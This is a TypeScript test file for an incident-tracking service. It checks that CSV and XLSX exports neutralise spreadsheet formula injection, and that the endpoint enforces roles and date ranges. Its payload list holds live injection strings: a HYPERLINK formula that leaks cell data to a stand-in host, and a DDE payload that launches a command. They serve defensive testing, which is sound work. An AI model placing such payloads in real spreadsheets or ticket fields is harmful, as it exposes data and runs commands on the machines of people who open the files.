import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../src/domain/policy.js';
import { createIncident } from '../../src/services/incident.service.js';
import { ENGINES } from '../helpers/engines.js';
import { startServer, type TestServer, type TestUser } from '../helpers/server.js';

/** Real formula-injection payloads, as attackers put them in ticket titles. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '\r=1',
];
const DAY = 86_400_000;

describe.each(ENGINES)('incident export on %s', (engine) => {
  let t: TestServer;
  let admin: TestUser, agent: TestUser, requester: TestUser;
  const ids: number[] = [];
  const period = () => `from=${new Date(Date.now() - DAY).toISOString()}&to=${new Date(Date.now() + DAY).toISOString()}`;

  const download = async (query: string, as: TestUser) => {
    const res = await fetch(`${t.url}/api/v1/incidents/export?${query}`, { headers: { authorization: `Bearer ${as.token}` } });
    return { status: res.status, type: res.headers.get('content-type'), data: Buffer.from(await res.arrayBuffer()) };
  };

  beforeAll(async () => {
    t = await startServer(engine);
    [admin, agent, requester] = await Promise.all([t.user('admin'), t.user('agent'), t.user('requester')]);
    // Straight through the use case: the API trims titles, and leading tabs and carriage returns must be tested too.
    const actor: Actor = { id: requester.id, role: 'requester', tiers: [] };
    for (const title of PAYLOADS) {
      const incident = await createIncident(t.palier.services, actor, {
        title,
        description: title,
        category: 'network-downtime',
        impact: 2,
        urgency: 2,
      });
      ids.push(incident.id);
    }
    const res = await t.api('POST', `/api/v1/incidents/${ids[0]}/resolve`, { as: admin, body: { resolution: '=1+1' } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
  });
  afterAll(() => t?.close());

  it('neutralises every formula payload in the CSV with a leading single quote', async () => {
    const res = await download(`format=csv&${period()}`, agent);
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/csv/);
    const [header, ...rows] = parse(res.data.toString('utf8'), { bom: true }) as string[][];
    const col = (name: string) => header!.indexOf(name);
    expect(rows.map((r) => Number(r[col('id')]))).toEqual(ids);
    rows.forEach((row, i) => {
      expect(row[col('title')]).toBe(`'${PAYLOADS[i]}`);
      expect(row[col('description')]).toBe(`'${PAYLOADS[i]}`);
    });
    expect(rows[0]![col('resolution')]).toBe("'=1+1");
    // Nowhere in the text does a field start with a formula character.
    const fieldStarts = res.data.toString('utf8').match(/(^|,|\r\n)"?[=+\-@\t\r]/g);
    expect(fieldStarts).toBeNull();
  });

  it('exports the events as CSV, one row per event', async () => {
    const res = await download(`format=csv&part=events&${period()}`, admin);
    const [header, ...rows] = parse(res.data.toString('utf8'), { bom: true }) as string[][];
    expect(header).toEqual(['incident_id', 'seq', 'at', 'kind', 'actor_id', 'from_tier', 'to_tier', 'data']);
    // One creation per incident, and the resolution of the first one.
    expect(rows.map((r) => `${r[0]}:${r[3]}`)).toEqual(
      [...ids.map((id) => `${id}:created`)].toSpliced(1, 0, `${ids[0]}:resolved`),
    );
    expect(JSON.parse(rows[1]![7]!)).toEqual({ resolution: '=1+1' });
  });

  it('neutralises every formula payload in the XLSX: text cells with a quote, no formula cell', async () => {
    const res = await download(`format=xlsx&${period()}`, agent);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.data as unknown as ArrayBuffer);
    const incidents = wb.getWorksheet('Incidents')!;
    const header = (incidents.getRow(1).values as unknown[]).map((v) => String(v));
    const title = header.indexOf('title');
    expect(incidents.rowCount).toBe(PAYLOADS.length + 1);
    PAYLOADS.forEach((payload, i) => {
      const cell = incidents.getRow(i + 2).getCell(title);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed; what matters is the quote in front.
      expect(cell.value).toBe(`'${payload.replace('\r', '\n')}`);
    });
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    expect(wb.getWorksheet('Events')!.rowCount).toBe(PAYLOADS.length + 1 + 1);
  });

  it('keeps to the period, and refuses requesters and a backwards period', async () => {
    const past = await download(`format=csv&from=2020-01-01&to=2020-02-01`, admin);
    expect(parse(past.data.toString('utf8'), { bom: true })).toHaveLength(1);
    expect((await download(`format=csv&${period()}`, requester)).status).toBe(403);
    const backwards = await t.api('GET', '/api/v1/incidents/export?from=2021-01-01&to=2020-01-01', { as: admin });
    expect(backwards.status).toBe(400);
    expect(backwards.body.error.code).toBe('invalid_period');
    const noPeriod = await t.api('GET', '/api/v1/incidents/export?format=csv', { as: admin });
    expect(noPeriod.status).toBe(400);
  });
});
